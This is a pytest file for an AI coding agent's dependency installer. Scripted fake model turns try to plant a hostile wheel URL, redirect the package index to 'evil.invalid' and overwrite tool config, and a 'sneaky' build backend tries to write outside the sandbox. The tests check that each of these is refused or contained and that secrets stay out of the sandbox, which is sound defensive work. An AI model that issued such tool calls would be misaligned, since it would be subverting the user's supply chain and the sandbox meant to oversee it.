"""The integrator adds dependencies with `help.py install` (a real local index) and places files by convention."""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.agent.conftest import VENV, git, make_engine, tree_hash
from tests.agent.fakeserver import Turn
from tests.conftest import need_tool, write
from tests.install.conftest import index, isolate, tool_caches, venv_versions

__all__ = ["index", "tool_caches"]  # the local index's fixtures, shared with tests/install

PLAN = {"subtasks": [{"title": "discount", "description": "a discount rate", "files": ["src/shop/discount.py"]}]}
TEST = "from shop.discount import RATE\n\n\ndef test_rate():\n    assert RATE == 0.1\n"


def shop(root: Path, server_url: str) -> Path:
    need_tool("git")
    need_tool("bwrap", "the agent runs model-written code only in the sandbox")
    write(root / "requirements.txt", "# runtime dependencies\n")
    write(
        root / "pyproject.toml",
        f"""
        [tool.pytest.ini_options]
        pythonpath = ["src"]

        [tool.help.test]
        venv = "{VENV}"

        [tool.help.agent]
        server = "{server_url}"
        client = "stdlib"
        """,
    )
    write(root / "src" / "shop" / "__init__.py", "")
    write(root / "tests" / "test_shop.py", "import shop\n\n\ndef test_imports():\n    assert shop\n")
    write(root / ".gitignore", "__pycache__/\n.venv/\n")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "a shop")
    return root


def test_dependencies_go_through_help_py_install_and_files_land_by_convention(
    tmp_path, server, index, tool_caches, monkeypatch
):
    isolate(monkeypatch, index.url, tool_caches)  # help.py install sees only the local index
    repo = shop(tmp_path / "shop", server.url)
    server.script["planner"] = [Turn("", [("submit_plan", PLAN)])]
    server.script["coder:discount"] = [
        Turn(
            "",
            [
                ("write_file", {"path": "requirements.txt", "content": "evil @ https://example.invalid/x.whl\n"}),
                ("write_file", {"path": "config/help.toml", "content": '[install]\nvenv = "/tmp/elsewhere"\n'}),
                ("write_file", {"path": "sub/../uv.toml", "content": 'index-url = "http://evil.invalid"\n'}),
                ("add_dependency", {"requirement": "epsilon==1.0"}),
                ("add_dependency", {"requirement": "-e git+https://example.invalid/x"}),
                ("write_file", {"path": "discount.py", "content": "RATE = 0.1\n"}),  # beside the manifest
                ("finish", {"summary": "discount rate"}),
            ],
        )
    ]
    server.script["tester"] = [
        Turn("", [("write_file", {"path": "test_discount.py", "content": TEST}), ("finish", {})])
    ]
    before = tree_hash(repo)
    engine, store = make_engine(repo, server, ["coder:1b"])
    task_id = engine.start("add a discount rate", "given")
    assert engine.run(task_id) == "done", store.task(task_id)["error"]

    worktree = Path(store.task(task_id)["worktree"])
    refused = [c["result"] for c in store.tool_calls(task_id) if not c["ok"]]
    assert any("requirements.txt is a dependency manifest: call add_dependency" in r for r in refused)
    assert any("not a requirement help.py install takes" in r for r in refused)
    assert any("config/help.toml is help.py's configuration" in r for r in refused)
    assert any("sub/../uv.toml is a dependency manifest" in r for r in refused)
    assert not (worktree / "config").exists() and not (worktree / "uv.toml").exists()
    # help.py install added it: the worktree's manifest names it and its environment has it
    assert "epsilon==1.0" in (worktree / "requirements.txt").read_text()
    assert "evil" not in (worktree / "requirements.txt").read_text()
    assert venv_versions(worktree)["epsilon"] == "1.0"
    assert any(r.startswith("/simple/epsilon") for r in index.requests)
    # placed by the project's conventions: src/ layout, tests under tests/
    assert (worktree / "src" / "shop" / "discount.py").is_file() and not (worktree / "discount.py").exists()
    assert (worktree / "tests" / "test_discount.py").is_file() and not (worktree / "test_discount.py").exists()
    placed = sorted(e["note"] for e in store.events(task_id) if e["outcome"] == "placed")
    assert placed == [
        "discount.py -> src/shop/discount.py (the project's conventions)",
        "test_discount.py -> tests/test_discount.py (the project's conventions)",
    ]
    committed = git(worktree, "show", "--name-only", "--format=", "HEAD").split()
    assert {"requirements.txt", "src/shop/discount.py", "tests/test_discount.py"} <= set(committed)
    integration = [r for r in store.results(task_id) if r["kind"] == "integration"][-1]
    assert integration["ok"] and "2 passed" in integration["output"]
    # the user's tree (and environment) untouched until apply
    assert tree_hash(repo) == before and not (repo / ".venv").exists()


def test_a_dependency_the_index_does_not_have_fails_the_task_clearly(tmp_path, server, index, tool_caches, monkeypatch):
    isolate(monkeypatch, index.url, tool_caches)
    repo = shop(tmp_path / "shop", server.url)
    server.script["planner"] = [Turn("", [("submit_plan", PLAN)])]
    server.script["coder:discount"] = [
        Turn("", [("add_dependency", {"requirement": "no-such-package"}), ("finish", {"summary": "x"})])
    ]
    engine, store = make_engine(repo, server, ["coder:1b"])
    task_id = engine.start("add a discount rate", "given")
    assert engine.run(task_id) == "failed"
    error = store.task(task_id)["error"]
    assert error.startswith("sub-task(s) failed: discount: help.py install no-such-package failed:"), error
    assert "not found" in error
    sub = store.subtasks(task_id)[0]
    assert (
        sub["state"] == "failed"
        and [e["outcome"] for e in store.events(task_id) if e["kind"] == "subtask"][-1] == "gave_up"
    )
    assert not [r for r in server.requests if "[role:reviewer]" in str(r.get("messages", [{}])[0])]


BACKEND = '''"""A build backend whose build script tries to write outside the worktree, then builds a real wheel."""
import base64, hashlib, json, os, zipfile

TARGETS = {targets!r}


def _attempt(path):
    try:
        with open(path, "w") as handle:
            handle.write("written by a build script")
        return "written"
    except OSError as exc:
        return type(exc).__name__ + ": " + (exc.strerror or str(exc))


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    results = {{path: _attempt(path) for path in TARGETS}}
    dist = "sneaky-1.0.dist-info"
    files = {{
        "sneaky/__init__.py": "RESULTS = " + json.dumps(results) + "\\n",
        dist + "/METADATA": "Metadata-Version: 2.1\\nName: sneaky\\nVersion: 1.0\\n",
        dist + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: sneaky\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    record = []
    for rel, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(rel + ",sha256=" + digest + "," + str(len(text.encode())))
    files[dist + "/RECORD"] = "\\n".join(record + [dist + "/RECORD,,"]) + "\\n"
    name = "sneaky-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for rel, text in files.items():
            archive.writestr(rel, text)
    return name
'''


def publish_sneaky(index_root: Path, targets: list[str]) -> None:
    """An sdist on the local index whose in-tree build backend (no build requirements) writes to `targets`."""
    import hashlib
    import io
    import tarfile

    members = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '\n[project]\nname = "sneaky"\nversion = "1.0"\n',
        "backend.py": BACKEND.format(targets=targets),
        "PKG-INFO": "Metadata-Version: 2.1\nName: sneaky\nVersion: 1.0\n",
    }
    archive = index_root / "files" / "sneaky-1.0.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        for rel, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(f"sneaky-1.0/{rel}")
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    page = index_root / "simple" / "sneaky" / "index.html"
    page.parent.mkdir(exist_ok=True)
    page.write_text(
        f'<html><body><a href="/files/sneaky-1.0.tar.gz#sha256={digest}">sneaky-1.0.tar.gz</a></body></html>'
    )


def test_a_build_script_of_an_asked_for_dependency_cannot_write_outside_the_worktree(
    tmp_path, server, index, tool_caches, monkeypatch
):
    """help.py install runs in the sandbox: the index reachable (--net), only the worktree and caches writable."""
    isolate(monkeypatch, index.url, tool_caches)
    repo = shop(tmp_path / "shop", server.url)
    outside = tmp_path / "outside"
    outside.mkdir()
    targets = [str(outside / "planted"), str(repo / "planted"), str(tmp_path / "planted")]
    publish_sneaky(index.root, targets)
    server.script["planner"] = [Turn("", [("submit_plan", PLAN)])]
    server.script["coder:discount"] = [
        Turn(
            "",
            [
                ("add_dependency", {"requirement": "sneaky==1.0"}),
                ("write_file", {"path": "src/shop/discount.py", "content": "RATE = 0.1\n"}),
                ("finish", {"summary": "discount rate"}),
            ],
        )
    ]
    server.script["tester"] = [
        Turn("", [("write_file", {"path": "tests/test_discount.py", "content": TEST}), ("finish", {})])
    ]
    before = tree_hash(repo)
    engine, store = make_engine(repo, server, ["coder:1b"])
    task_id = engine.start("add a discount rate", "given")
    assert engine.run(task_id) == "done", store.task(task_id)["error"]

    worktree = Path(store.task(task_id)["worktree"])
    assert any(r.startswith("/simple/sneaky") for r in index.requests)  # the network was there for the index
    assert venv_versions(worktree)["sneaky"] == "1.0"  # the sdist was built and installed, in the worktree
    site = next((worktree / ".venv" / "lib").glob("python3.*/site-packages"))
    results = json.loads((site / "sneaky" / "__init__.py").read_text().split("=", 1)[1])
    assert set(results) == set(targets)
    assert results[str(repo / "planted")] == "OSError: Read-only file system", results  # the user's tree
    assert results[str(outside / "planted")].startswith("FileNotFoundError"), results  # not even visible
    # /tmp inside is the sandbox's own tmpfs: the write lands there and is gone with it
    assert results[str(tmp_path / "planted")] == "written", results
    assert not (outside / "planted").exists() and not (repo / "planted").exists()
    assert not (tmp_path / "planted").exists()
    installs = [r for r in store.results(task_id) if r["kind"] == "install"]
    assert len(installs) == 1 and installs[0]["ok"], installs
    assert tree_hash(repo) == before


def test_a_uv_project_adds_its_dependency_with_uv_in_the_sandbox(tmp_path, server, index, tool_caches, monkeypatch):
    """uv found on PATH inside the sandbox, its cache (UV_CACHE_DIR) writable, the lock written in the worktree."""
    need_tool("uv", "the dev extra has it")
    isolate(monkeypatch, index.url, tool_caches)
    repo = tmp_path / "shop"
    write(
        repo / "pyproject.toml",
        f"""
        [project]
        name = "shop"
        version = "0.1"
        requires-python = ">=3.11"
        dependencies = []

        [tool.uv]
        package = false

        [tool.help.test]
        venv = "{VENV}"

        [tool.help.agent]
        server = "{server.url}"
        client = "stdlib"
        """,
    )
    write(repo / "tests" / "test_shop.py", "def test_nothing():\n    assert True\n")
    write(repo / ".gitignore", "__pycache__/\n.venv/\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a uv shop")
    server.script["planner"] = [Turn("", [("submit_plan", PLAN)])]
    server.script["coder:discount"] = [
        Turn("", [("add_dependency", {"requirement": "epsilon==1.0"}), ("finish", {"summary": "x"})])
    ]
    server.script["tester"] = [Turn("", [("finish", {"summary": "the project's test is enough"})])]
    engine, store = make_engine(repo, server, ["coder:1b"])
    task_id = engine.start("add a discount rate", "given")
    assert engine.run(task_id) == "done", store.task(task_id)["error"]
    worktree = Path(store.task(task_id)["worktree"])
    assert "epsilon==1.0" in (worktree / "pyproject.toml").read_text()
    assert 'name = "epsilon"' in (worktree / "uv.lock").read_text()
    assert venv_versions(worktree)["epsilon"] == "1.0"
    assert any((tool_caches / "uv").iterdir())  # the shared cache was written from inside
    assert not (repo / "uv.lock").exists() and not (repo / ".venv").exists()


def test_the_sandboxed_install_gets_the_managers_settings_and_no_other_secret(tmp_path):
    from plugins.agent import integrator

    home = tmp_path / "home"
    (home / ".config" / "pip").mkdir(parents=True)
    (home / ".config" / "gh").mkdir(parents=True)  # another program's settings: not shown
    (home / ".local" / "bin").mkdir(parents=True)
    (tmp_path / "pyenv" / "shims").mkdir(parents=True)
    (tmp_path / "pyenv" / "libexec").mkdir()
    (tmp_path / "pyenv" / "libexec" / "pyenv").write_text("#!/bin/sh\n")
    environ = {
        "HOME": str(home),
        "PATH": os.pathsep.join(
            [str(tmp_path / "pyenv" / "shims"), str(home / ".local" / "bin"), str(home), "/usr/bin"]
        ),
        "PIP_INDEX_URL": "http://127.0.0.1:1/simple/",
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
        "https_proxy": "http://127.0.0.1:3128",
        "GITHUB_TOKEN": "secret",
        "AWS_SECRET_ACCESS_KEY": "secret",
        "SSH_AUTH_SOCK": "/tmp/agent.sock",
    }
    job = integrator.install(tmp_path / "worktree", "epsilon==1.0", True, environ)
    assert job.command[-3:] == ["install", "epsilon==1.0", "--dev"]
    options = job.options
    assert options["network"] is True and options["limits"]["cpu"] >= 600
    env = options["env"]
    assert env["PIP_INDEX_URL"] == environ["PIP_INDEX_URL"] and env["https_proxy"] == environ["https_proxy"]
    assert env["HELP_PROJECT"] == str(tmp_path / "worktree") and env["PATH"] == environ["PATH"]
    assert not {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "HOME"} & set(env)
    # caches: the given one and ~/.cache/<manager> for the rest, each made and writable
    assert Path(env["UV_CACHE_DIR"]) == tmp_path / "uv-cache" and env["PIP_CACHE_DIR"] == str(home / ".cache" / "pip")
    assert set(options["writable"]) == {Path(env[k]) for k in integrator.CACHES} and all(
        p.is_dir() for p in options["writable"]
    )
    # read-only: the pip settings folder, the pyenv root behind the shims, ~/.local/bin; never the home itself
    shown = set(options["readonly"])
    assert {home / ".config" / "pip", tmp_path / "pyenv", home / ".local" / "bin"} <= shown
    assert home not in shown and home / ".config" / "gh" not in shown and home / ".config" not in shown
